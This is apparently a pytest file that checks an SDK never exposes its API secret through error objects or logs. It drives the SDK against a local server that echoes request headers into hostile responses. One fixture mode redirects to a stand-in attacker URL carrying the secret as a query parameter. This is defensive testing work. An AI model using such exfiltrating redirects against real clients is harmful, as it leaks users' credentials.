"""No credential is reachable from any error the SDK raises, nor from its logs.

Every error path (network failures of each kind, unreadable and hostile
bodies, every status, redirects, unknown outcomes, provisioning failures,
closed sessions, the Provisioner's errors and a batch's outcomes) is
driven over real sockets on 127.0.0.1 by a server that echoes our request
headers into its answers, the way a debugging proxy's error page does (a
hand-written server: the sandbox never echoes a request's headers). Each
error's whole object graph is walked (`tests/secret_graph.py`), not just
its `str()`; the log records are searched as well.
"""

from __future__ import annotations

import asyncio
import json
import logging
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import aiohttp
import pytest
from aiohttp import web
from foundation_support import closed_port, serve
from secret_graph import secret_paths

from sendblue_lines import (
    APIError,
    LinesClient,
    MalformedResponseError,
    OutcomeUnknownError,
    Provisioner,
    RetryPolicy,
    SendblueError,
    TransportError,
)

KEY_ID = "key-id-for-the-secret-walk"
SECRET = "walk-s3cr3t-0123456789abcdef-XYZ"
PAIR = f"{KEY_ID}:{SECRET}"
#: What a partial copy would still give away.
PIECES = [SECRET, PAIR, SECRET[: len(SECRET) // 2], SECRET[len(SECRET) // 2 :]]
NO_WAIT = RetryPolicy(attempts=2, base_delay=0, max_delay=0)
LIMITS = "/accounts/limits"
PREVIEW = "/accounts/lines/provision-preview"
CONFIRM = "/accounts/lines/provision-confirm"
BIG = 1024 * 1024


def echo(request: web.Request) -> str:
    """The request's headers as a debugging proxy prints them."""
    return "\n".join(f"{k}: {v}" for k, v in request.headers.items())


def escaped(text: str) -> str:
    return "".join(f"\\u{ord(c):04x}" for c in text)


async def answer(request: web.Request, mode: str) -> web.StreamResponse:
    headers = echo(request)
    secret = request.headers.get("sb-api-secret-key", "")
    if mode == "previewok":
        return web.json_response(
            {
                "status": "OK",
                "preview_token": "lpv_walk_token_1",
                "expires_at": "2999-01-01T00:00:00.000Z",
                "message": "ok",
            }
        )
    if mode == "dated200":  # a front end that dates its answers oddly
        return web.json_response({"status": "OK"}, headers={"Date": f"Wed {secret}"})
    if mode == "html502":
        return web.Response(
            status=502,
            text=f"<html><pre>{headers}</pre></html>",
            content_type="text/html",
        )
    if mode in ("json400", "json401", "json403", "json404", "json503"):
        return web.json_response(
            {"status": "ERROR", "message": f"bad request, saw {headers}"},
            status=int(mode[4:]),
        )
    if mode == "json429":
        return web.json_response(
            {"status": "ERROR", "error": "daily_limit_reached", "message": headers},
            status=429,
        )
    if mode == "escaped410":
        text = (
            '{"status": "ERROR", "error": "token_expired", "message": "'
            + escaped(f"sb-api-secret-key: {secret}")
            + '"}'
        )
        return web.Response(status=410, text=text, content_type="application/json")
    if mode == "pf":
        return web.json_response(
            {
                "status": "ERROR",
                "error": "provisioning_failed",
                "message": f"failed for {secret}",
                "headers": dict(request.headers),
                secret: [secret, {"nested": secret}],
            },
            status=500,
        )
    if mode == "garbage200":
        return web.Response(
            status=200, text=f"ok! {headers}", content_type="text/plain"
        )
    if mode == "wrongtypes200":
        return web.json_response(
            {
                "status": "OK",
                "preview_token": {"echo": secret},
                "expires_at": secret,
                "message": 5,
                "phone_number": [secret],
                "worker_id": 7,
                "subscription_id": None,
            }
        )
    if mode == "escaped200":
        text = '{"status": "OK", "phone_number": "' + escaped(secret) + '"}'
        return web.Response(status=200, text=text, content_type="application/json")
    if mode == "redirect":
        return web.Response(
            status=307, headers={"Location": f"https://evil.test/steal?k={secret}"}
        )
    if mode == "cut":
        response = web.StreamResponse(status=502, headers={"Content-Length": "100000"})
        await response.prepare(request)
        await response.write(f"partial {secret[: len(secret) - 3]}".encode())
        assert request.transport is not None
        request.transport.close()
        return response
    if mode == "oversize":
        filler = "x" * (BIG - len(secret) // 2)
        return web.Response(status=200, text=filler + secret + "y" * 100)
    if mode == "drop":
        assert request.transport is not None
        request.transport.close()
        return web.Response(status=499)
    if mode == "hang":
        await asyncio.sleep(2)
        return web.Response(status=504)
    raise AssertionError(mode)


class Echo:
    """A server answering each path in the mode given for it."""

    def __init__(self) -> None:
        self.modes: dict[str, str] = {}
        self.url = ""

    async def handle(self, request: web.Request) -> web.StreamResponse:
        await request.read()
        return await answer(request, self.modes.get(request.path, "html502"))


@asynccontextmanager
async def echoing(**modes: str) -> AsyncIterator[Echo]:
    server = Echo()
    server.modes = {
        {"limits": LIMITS, "preview": PREVIEW, "confirm": CONFIRM}[k]: v
        for k, v in modes.items()
    }
    async with serve(server.handle) as served:
        server.url = served.url
        yield server


def client_for(url: str, **options: Any) -> LinesClient:
    options.setdefault("retry", NO_WAIT)
    options.setdefault("timeout", 0.5)
    return LinesClient(KEY_ID, SECRET, base_url=url, **options)


def assert_clean(error: BaseException, caplog: pytest.LogCaptureFixture) -> None:
    paths = secret_paths(error, PIECES)
    assert paths == [], f"the secret is reachable at {paths[:5]}"
    for record in caplog.records:
        assert not secret_paths(record.getMessage(), PIECES), record.getMessage()
        assert not secret_paths(record.exc_info, PIECES)


async def failure(call: Any) -> SendblueError:
    with pytest.raises(SendblueError) as caught:
        await call
    return caught.value


CALLS = {
    "limits": lambda c: c.get_limits(),
    "preview": lambda c: c.preview(),
    "confirm": lambda c: c.confirm("lpv_walk_token_1"),
}
MODES = [
    "html502",
    "json400",
    "json401",
    "json403",
    "json404",
    "json429",
    "json503",
    "escaped410",
    "pf",
    "garbage200",
    "wrongtypes200",
    "escaped200",
    "redirect",
    "cut",
    "oversize",
    "drop",
    "hang",
]


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("endpoint", list(CALLS))
async def test_no_error_of_the_client_reaches_the_secret(
    endpoint: str, mode: str, caplog: pytest.LogCaptureFixture
) -> None:
    """Every hostile answer at every endpoint: no path from the error to the secret."""
    caplog.set_level(logging.DEBUG, "sendblue_lines")
    async with echoing(**{endpoint: mode}) as server, client_for(server.url) as client:
        result: object
        try:
            result = await CALLS[endpoint](client)
        except SendblueError as error:
            result = error
    if mode in ("escaped200", "wrongtypes200") and endpoint == "limits":
        # Well-formed JSON of another shape: "limits unknown", not an error.
        assert not secret_paths(result, PIECES)
        return
    assert isinstance(result, SendblueError), result
    assert_clean(result, caplog)


@pytest.mark.parametrize(
    "mode", ["html502", "json400", "pf", "garbage200", "wrongtypes200", "escaped410"]
)
async def test_bodies_keep_their_shape_with_the_secret_redacted(mode: str) -> None:
    """What the server said is kept, with "[redacted]" where the secret was."""
    async with echoing(confirm=mode) as server, client_for(server.url) as client:
        error = await failure(client.confirm("lpv_walk_token_1"))
    kept = [
        json.dumps(getattr(error, "body", None)),
        str(getattr(error, "raw", None)),
        str(error),
    ]
    assert any("[redacted]" in text for text in kept), kept
    assert KEY_ID in " ".join(kept) or mode in ("pf", "wrongtypes200", "escaped410")


async def test_a_date_header_that_echoes_the_secret_is_redacted() -> None:
    """The Date header kept for a token's expiry holds "[redacted]", not the secret."""
    async with echoing(preview="dated200") as server, client_for(server.url) as client:
        reply = await client._transport.send("POST", PREVIEW)
    assert reply.date == "Wed [redacted]"
    assert secret_paths(reply, PIECES) == []
    assert secret_paths(repr(reply), PIECES) == []


async def test_a_refused_connection_holds_no_secret(
    caplog: pytest.LogCaptureFixture,
) -> None:
    """Connection refused: a TransportError, its chain free of the secret."""
    async with client_for(f"http://127.0.0.1:{closed_port()}") as client:
        for call in CALLS.values():
            error = await failure(call(client))
            assert isinstance(error, TransportError)
            assert_clean(error, caplog)


async def test_a_trace_hook_that_raises_with_the_headers_is_not_chained(
    caplog: pytest.LogCaptureFixture,
) -> None:
    """A caller's trace hook raising with our headers: described, redacted."""

    async def explode(
        session: Any, context: Any, params: aiohttp.TraceRequestEndParams
    ) -> None:
        raise ValueError(f"trace saw {dict(params.headers)}")

    trace = aiohttp.TraceConfig()
    trace.on_request_end.append(explode)
    async with (
        echoing(limits="json400") as server,
        aiohttp.ClientSession(trace_configs=[trace]) as session,
        client_for(server.url, session=session) as client,
    ):
        for call in CALLS.values():
            error = await failure(call(client))
            assert isinstance(error, (TransportError, OutcomeUnknownError))
            assert_clean(error, caplog)


async def test_a_closed_session_error_holds_no_secret(
    caplog: pytest.LogCaptureFixture,
) -> None:
    """The caller's closed session: a ConfigurationError with nothing to find."""
    session = aiohttp.ClientSession()
    await session.close()
    async with client_for("https://api.example.test", session=session) as client:
        for call in CALLS.values():
            assert_clean(await failure(call(client)), caplog)


@pytest.mark.parametrize(
    ("modes", "kind"),
    [
        pytest.param({"confirm": "pf"}, "ProvisioningFailedError", id="pf"),
        pytest.param({"confirm": "drop"}, "OutcomeUnknownError", id="unknown"),
        pytest.param({"confirm": "escaped410"}, "TokenExpiredError", id="expired"),
        pytest.param({"preview": "json429"}, "DailyLimitReachedError", id="daily"),
        pytest.param({"preview": "wrongtypes200"}, "MalformedResponseError", id="bad"),
        pytest.param({"limits": "json401"}, "AuthenticationError", id="limits-401"),
    ],
)
async def test_the_provisioners_errors_and_batch_outcomes_hold_no_secret(
    modes: dict[str, str], kind: str, caplog: pytest.LogCaptureFixture
) -> None:
    """provision(), a batch's errors and stopped_by, on_outcome's errors: all clean."""
    caplog.set_level(logging.DEBUG, "sendblue_lines")
    modes.setdefault("limits", "json404")  # "limits unknown": go on
    modes.setdefault("preview", "previewok")
    heard: list[Any] = []
    async with echoing(**modes) as server, client_for(server.url) as client:
        provisioner = Provisioner(
            client, on_outcome=heard.append, max_repreviews=0, no_lines_retry=None
        )
        single = await failure(provisioner.provision())
        batch = await provisioner.provision_many(2, concurrency=2)
    assert type(single).__name__ == kind
    errors = [single, *batch.errors, batch.stopped_by, *[o.error for o in heard]]
    for error in errors:
        if error is not None:
            assert_clean(error, caplog)
    assert secret_paths(batch, PIECES) == []


def test_the_walker_finds_a_secret_in_aiohttp_request_info() -> None:
    """The walk is worth something: it finds headers inside a chained aiohttp error."""
    from multidict import CIMultiDict, CIMultiDictProxy
    from yarl import URL

    info = aiohttp.RequestInfo(
        URL("https://x.test/"),
        "POST",
        CIMultiDictProxy(CIMultiDict({"sb-api-secret-key": SECRET})),
        URL("https://x.test/"),
    )
    inner = aiohttp.ClientResponseError(info, (), status=500)

    def wrap() -> None:
        try:
            raise inner
        except aiohttp.ClientError:
            raise APIError("outer", status=500) from None

    with pytest.raises(APIError) as caught:
        wrap()
    # `from None` hides the context from tracebacks, not from the object.
    found = secret_paths(caught.value, [SECRET])
    assert found
    assert any("__context__.request_info" in path for path in found)
    assert secret_paths(MalformedResponseError("m", raw="no secret"), [SECRET]) == []


async def test_a_secret_too_short_to_tell_from_chance_mangles_nothing() -> None:
    """A one-letter test secret is not redacted: the answers stay as they were."""
    async with (
        echoing(limits="json404") as server,
        LinesClient(KEY_ID, "s", base_url=server.url, retry=NO_WAIT) as c,
    ):
        error = await failure(c.get_limits())
    assert isinstance(error, APIError)
    assert error.body is not None
    assert "status" in error.body
    assert "[redacted]" not in str(error)
